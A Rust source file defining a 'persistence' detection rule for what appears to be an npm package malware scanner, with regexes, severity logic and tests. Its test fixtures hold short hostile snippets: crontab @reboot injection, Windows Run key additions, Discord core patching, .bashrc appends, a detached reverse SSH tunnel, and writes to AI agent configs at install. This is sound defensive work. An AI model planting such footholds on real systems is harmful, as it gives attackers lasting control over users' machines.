//! Rule `persistence`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path, is_file_write};

crate::declare_rule! {
    /// The code makes something start again later on its own: a systemd unit or timer, a
    /// crontab line, a macOS LaunchAgent/LaunchDaemon, a Windows Run key, scheduled task or
    /// Startup-folder file, commands appended to shell start-up files (.bashrc, .zshrc,
    /// .profile; by a JavaScript write, or a `>>` redirection in a shell script), or code written into another application's files (Discord's desktop core,
    /// Electron `app.asar`), an XDG autostart `.desktop` entry, a WMI event subscription, system
    /// start-up scripts (`/etc/rc.local`, `/etc/profile.d`, Winlogon, Image File Execution
    /// Options, macOS login items), a reverse SSH tunnel (`ssh -R`). Scheduler tools do this when
    /// asked (`medium`); it is `critical` when it runs at install time or sits beside network
    /// code in the same file (download, then persist). Footholds that legitimate tools set up on
    /// request count only at install time, and are `high` there unless the same file has network
    /// code (git hook managers such as pre-commit and husky 4 write `.git/hooks` from
    /// `postinstall`): AI agent and editor configuration (`.claude/settings.json` hooks, MCP
    /// configs, `.vscode/tasks.json`), git hooks, a service worker written into the app's
    /// `public` folder. Comment lines of a shell script are not read.
    id: "persistence",
    category: Other,
    severity: Medium,
    capability: Some(crate::model::Capability::FilesystemWrite),
    title: "installs itself to run again (systemd, cron, launchd, autostart, Run key, WMI, shell rc, agent hooks, app patching)",
    incident: "@0xengine/xmlrpc (2024) persisted a miner via systemd and cron; LofyGang (2022) rewrote Discord's desktop core; @typescript_eslinter/eslint (2024) wrote a Startup-folder .bat",
    case_file: "index.js",
    flag: ["const https = require('https'); https.get(u); fs.writeFileSync(path.join(home, '.config/systemd/user/x.service'), unit); execSync('systemctl --user enable --now x.service')",
           "const { execSync } = require('child_process'); require('https').get(u); execSync(`(crontab -l; echo \"@reboot ${bin}\") | crontab -`)",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}\n=== i.js\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), line)",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"sh bin/setup.sh\"}}\n=== bin/setup.sh\n#!/bin/sh\nfor rc in \"$HOME/.bashrc\" \"$HOME/.zshrc\"; do\n  printf '%s\\n' \"$payload\" >> \"$rc\"\ndone",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"node i.js\"}}\n=== i.js\nconst idx = path.join(mods, m, 'discord_desktop_core', 'index.js'); fs.writeFileSync(idx, inject)",
           "const startup = path.join(home, 'AppData', 'Roaming', 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup'); https.get(u, r => fs.writeFileSync(path.join(startup, 'x.bat'), b))",
           "require('child_process').execSync('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v upd /d ' + exe); fetch(u)",
           "const fs = require('fs'); fs.writeFileSync(path.join(os.homedir(), '.config', 'autostart', 'sync.desktop'), '[Desktop Entry]\\nExec=' + bin); require('https').get(u)",
           "require('child_process').execSync('powershell -c \"Set-WmiInstance -Namespace root/subscription -Class CommandLineEventConsumer -Arguments @{}\"')",
           "const cp = require('child_process'); cp.spawn('ssh', ['-N', '-R', '9000:localhost:22', 'u@h.example'], { detached: true })",
           "const args = ['-o', 'StrictHostKeyChecking=no', '-N', '-R', '0:localhost:22', 'r@h.example'];\nrequire('child_process').spawn('ssh', args, { detached: true }); require('https').get(u)",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}\n=== i.js\nfs.writeFileSync(path.join(process.env.INIT_CWD, '.claude', 'settings.json'), JSON.stringify(cfg))",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}\n=== i.js\nfs.writeFileSync(path.join(root, 'public', 'sw.js'), worker)",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}\n=== i.js\nfs.appendFileSync(path.join(home, '.config', 'fish', 'config.fish'), line)"],
    pass: ["const rc = fs.readFileSync(path.join(os.homedir(), '.bashrc'), 'utf8')",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"sh c.sh\"}}\n=== c.sh\n#!/bin/sh\n# Installation: mycli completion >> ~/.bashrc  (or ~/.zshrc)\necho ok",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"sh setup.sh\"}}\n=== setup.sh\n#!/bin/sh\necho 'add this to your ~/.bashrc:'\necho \"export PATH=$PWD/bin:$PATH\" > \"$TMPDIR/path.txt\"",
           "// add `@reboot node server.js` to your crontab\nmodule.exports = {}",
           "const parse = (line) => line.split(' '); // crontab syntax parser\nparse('* * * * * cmd')",
           "const cp = require('child_process'); cp.execSync('ssh -T git@h.example'); cp.spawnSync('rm', ['-R', dir])",
           "const fs = require('fs'); fs.writeFileSync(path.join(os.homedir(), '.cursor', 'mcp.json'), JSON.stringify({ mcpServers: { docs: { command: 'npx' } } }))",
           "const fs = require('fs'); const list = fs.readdirSync(path.join(os.homedir(), '.config', 'autostart')); fs.writeFileSync('report.json', JSON.stringify(list))",
           "const fs = require('fs'); fs.writeFileSync(path.join(out, 'public', 'sw.js'), generateSW(manifest))"],
}

/// A shell script with its comment lines blanked (offsets kept): the git hook pre-commit 2.0.0
/// runs names `.git/hooks` and a help URL in comments, which neither write a hook nor reach
/// the network.
fn shell_code(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        let t = line.trim_start();
        if t.starts_with('#') && !t.starts_with("#!") {
            out.extend(line.chars().map(|c| if c == '\n' { '\n' } else { ' ' }));
        } else {
            out.push_str(line);
        }
    }
    out
}

fn check(pkg: &Package, out: &mut Emitter) {
    let kinds: &[(&str, &regex::Regex)] = &[
        (
            "a systemd unit",
            crate::regex!(
                r"systemd[/\\]+(user|system)[/\\'\x22`]|systemctl\s+(--user\s+)?enable|\[Install\]\s*(\\n|\n)\s*WantedBy"
            ),
        ),
        (
            "a crontab entry",
            crate::regex!(
                r"\|\s*crontab\s+-|crontab\s+-l\b[^\n]{0,80}\becho\b|/etc/cron\.|@reboot\s"
            ),
        ),
        (
            "a launchd agent",
            crate::regex!(r"LaunchAgents|LaunchDaemons|launchctl\s+(load|bootstrap)"),
        ),
        (
            "a Windows Run key or scheduled task",
            crate::regex!(
                r"(?i)CurrentVersion\\{1,4}Run(Once)?\b|schtasks(\.exe)?\s+/create|Register-ScheduledTask"
            ),
        ),
        (
            "the Windows Startup folder",
            crate::regex!(
                r"(?i)Start Menu['\x22`]?\s*,?\s*['\x22`]?[/\\]?\s*['\x22`]?Programs['\x22`]?\s*,?\s*['\x22`]?[/\\]?\s*['\x22`]?Startup|shell:startup"
            ),
        ),
        (
            "another application's code",
            crate::regex!(r"discord_desktop_core|app\.asar['\x22`]"),
        ),
        (
            "an XDG autostart entry",
            crate::regex!(
                r"\.config(?:[/\\]|['\x22`]\s*,\s*['\x22`])autostart\b[^\n]{0,80}\.desktop\b|/etc/xdg/autostart/|X-GNOME-Autostart"
            ),
        ),
        (
            "a WMI event subscription",
            crate::regex!(
                r"__EventFilter|CommandLineEventConsumer|ActiveScriptEventConsumer|__FilterToConsumerBinding|Register-WmiEvent|Register-CimIndicationEvent"
            ),
        ),
        (
            "a system start-up script",
            crate::regex!(
                r"/etc/rc\.local|/etc/profile\.d/|/etc/init\.d/|(?i)Image File Execution Options|Winlogon\\{1,4}(Userinit|Shell)\b|make (new )?login item|Login Items"
            ),
        ),
        (
            "a reverse SSH tunnel",
            crate::regex!(
                r"\b(auto)?ssh\b[^\n]{0,160}?(\s|['\x22`]\s*,\s*['\x22`])-[NfTgC]*R['\x22`]?\s*,?\s*['\x22`]?(\d|0\.0\.0\.0|\*:|localhost)|['\x22`]-[NfTgC]*R['\x22`]\s*,\s*['\x22`](\d+|0\.0\.0\.0|\*|localhost):\w"
            ),
        ),
    ];
    // Footholds that legitimate tools also set up on request (git hook managers, MCP and editor
    // set-up commands, PWA plugins): they count at install time only.
    let weak: &[(&str, &regex::Regex)] = &[
        (
            "an AI agent or editor configuration",
            crate::regex!(
                r"\.claude(?:[/\\]|['\x22`]\s*,\s*['\x22`])settings(\.local)?\.json|claude_desktop_config\.json|\.claude\.json['\x22`]|\.cursor(?:[/\\]|['\x22`]\s*,\s*['\x22`])mcp\.json|mcp_config\.json|\.gemini(?:[/\\]|['\x22`]\s*,\s*['\x22`])settings\.json|\.vscode(?:[/\\]|['\x22`]\s*,\s*['\x22`])(tasks|settings|mcp)\.json"
            ),
        ),
        (
            "a git hook",
            crate::regex!(r"\.git(?:[/\\]|['\x22`]\s*,\s*['\x22`])hooks\b|core\.hooksPath"),
        ),
        (
            "a service worker in the app's public folder",
            crate::regex!(
                r"\b(public|static|www)(?:[/\\]|['\x22`]\s*,\s*['\x22`])[\w.-]*(sw|service-?worker)[\w.-]*\.js"
            ),
        ),
    ];
    let rc = crate::regex!(
        r#"['"`/\\]\.(bashrc|zshrc|bash_profile|bash_login|profile|zprofile|zshenv|zlogin|cshrc|tcshrc)\b|config\.fish\b|PowerShell_profile\.ps1"#
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let shell = f.kind == crate::package::FileKind::Shell;
        let code = if shell {
            std::borrow::Cow::Owned(shell_code(all_text(f)))
        } else {
            std::borrow::Cow::Borrowed(all_text(f))
        };
        let text: &str = &code;
        if !crate::mentions!(
            text,
            [
                "systemd",
                "systemctl",
                "crontab",
                "/etc/cron",
                "@reboot",
                "launchagents",
                "launchdaemons",
                "launchctl",
                "currentversion",
                "schtasks",
                "scheduledtask",
                "programs",
                "shell:startup",
                "discord_desktop_core",
                "app.asar",
                ".bashrc",
                ".zshrc",
                "_profile",
                ".profile",
                ".zprofile",
                ".zshenv",
                ".zlogin",
                "config.fish",
                "powershell_profile",
                "autostart",
                "eventfilter",
                "eventconsumer",
                "wmievent",
                "cimindication",
                "/etc/",
                "image file execution",
                "winlogon",
                "login item",
                "ssh",
                ".claude",
                "claude_desktop",
                "mcp",
                ".gemini",
                ".vscode",
                "hooks",
                "sw.js",
                "worker"
            ]
        ) {
            continue;
        }
        let writes = f.js.as_ref().is_none_or(|js| {
            js.calls
                .iter()
                .any(|c| is_file_write(&c.path) || crate::rules::exec::is_spawn(&c.path))
        });
        if !writes {
            continue;
        }
        let mut found: Vec<&str> = Vec::new();
        let mut first = None;
        for (label, re) in kinds {
            if let Some(m) = re.find(text) {
                found.push(label);
                first.get_or_insert(m.start());
            }
        }
        // Shell start-up files count only when written to, not read: by a file write in
        // JavaScript, or in a shell script by an append redirection (`>> ~/.bashrc`, or
        // `>> "$rc"` with the start-up files named in the same script).
        let shell_append = || {
            f.kind == crate::package::FileKind::Shell
                && crate::regex!(r#"(?m)^[ \t]*[^#\s][^\n]*>>\s*['"]?(?:\$\{?\w+\}?|~)"#)
                    .is_match(&f.text)
        };
        if let Some(m) = rc.find(text)
            && (f.js.as_ref().is_some_and(|js| {
                js.calls
                    .iter()
                    .any(|c| crate::rules::is_file_write(&c.path))
            }) || f.js.is_none() && shell_append())
        {
            found.push("a shell start-up file");
            first.get_or_insert(m.start());
        }
        let install = pkg.is_install_file(f);
        let weak_only = found.is_empty();
        if weak_only && install {
            for (label, re) in weak {
                if let Some(m) = re.find(text) {
                    found.push(label);
                    first.get_or_insert(m.start());
                }
            }
        }
        if found.is_empty() {
            continue;
        }
        let off = first.map_or(0, |o| f.text_off(o, 0));
        let net = if shell {
            text.contains("http")
        } else {
            crate::rules::data::has_network(f)
        };
        // A weak foothold alone is what hook managers do at install (pre-commit, pre-push, husky
        // 4 write .git/hooks from postinstall): worth a look, damning only beside network code.
        let sev = if weak_only && !net {
            Severity::High
        } else if install || net {
            Severity::Critical
        } else {
            Severity::Medium
        };
        let why = if install {
            " at install time"
        } else if net {
            " beside network code"
        } else {
            ""
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            off,
            format!("makes code start again later via {}{why}", found.join(", ")),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::model::{Limits, Severity};
    use crate::package::Package;
    use crate::rules::Emitter;

    fn severities(install_js: &str) -> Vec<Severity> {
        let files = vec![
            (
                "package.json".to_string(),
                br#"{"name":"hooks","version":"1.0.0","scripts":{"install":"node install.js"}}"#
                    .to_vec(),
            ),
            ("install.js".to_string(), install_js.as_bytes().to_vec()),
        ];
        let pkg = Package::build(files, Vec::new(), None, &Limits::default());
        let mut out = Emitter::new(super::RULE.meta);
        (super::RULE.check)(&pkg, &mut out);
        out.hits.iter().map(|h| h.severity).collect()
    }

    /// pre-commit 1.2.2 and pre-push 0.1.4 write their hook into `.git/hooks` from `install`:
    /// a foothold worth a look, not malware.
    #[test]
    fn a_git_hook_manager_writing_its_hook_at_install_is_high_not_critical() {
        let hook_manager = "var fs = require('fs'), path = require('path');\n\
            var hooks = path.resolve(root, '.git', 'hooks');\n\
            fs.writeFileSync(path.join(hooks, 'pre-commit'), hookScript);\n";
        assert_eq!(severities(hook_manager), vec![Severity::High]);
        let with_download = format!(
            "{hook_manager}require('https').get('https://h.example/p.sh', r => r.pipe(fs.createWriteStream(hooks + '/post-checkout')));\n"
        );
        assert_eq!(severities(&with_download), vec![Severity::Critical]);
    }

    /// pre-commit 2.0.0's hook script (run by git, named by its install script) mentions
    /// `.git/hooks` and a help URL only in comments; a script that writes into `.git/hooks` is
    /// still found.
    #[test]
    fn a_shell_script_naming_git_hooks_in_comments_is_no_foothold() {
        let files = |hook: &str| {
            vec![
                (
                    "package.json".to_string(),
                    br#"{"name":"hooks","version":"1.0.0","scripts":{"install":"sh hook"}}"#
                        .to_vec(),
                ),
                ("hook".to_string(), hook.as_bytes().to_vec()),
            ]
        };
        let run = |hook: &str| {
            let pkg = Package::build(files(hook), Vec::new(), None, &Limits::default());
            let mut out = Emitter::new(super::RULE.meta);
            (super::RULE.check)(&pkg, &mut out);
            out.hits.iter().map(|h| h.severity).collect::<Vec<_>>()
        };
        let comments = "#!/usr/bin/env bash\n# the .git/hooks wrapper unsets it too\n# https://docs.example/hooks\nunset GIT_LITERAL_PATHSPECS\nexec node \"$HOOK\"\n";
        assert!(run(comments).is_empty());
        let writes = format!("{comments}cp \"$SRC\" .git/hooks/pre-commit\n");
        assert_eq!(run(&writes), vec![Severity::High]);
    }

    /// A strong foothold at install time stays critical without any network code.
    #[test]
    fn a_shell_rc_written_at_install_is_critical() {
        let rc = "const fs = require('fs');\nfs.appendFileSync(require('os').homedir() + '/.bashrc', line);\n";
        assert_eq!(severities(rc), vec![Severity::Critical]);
    }
}
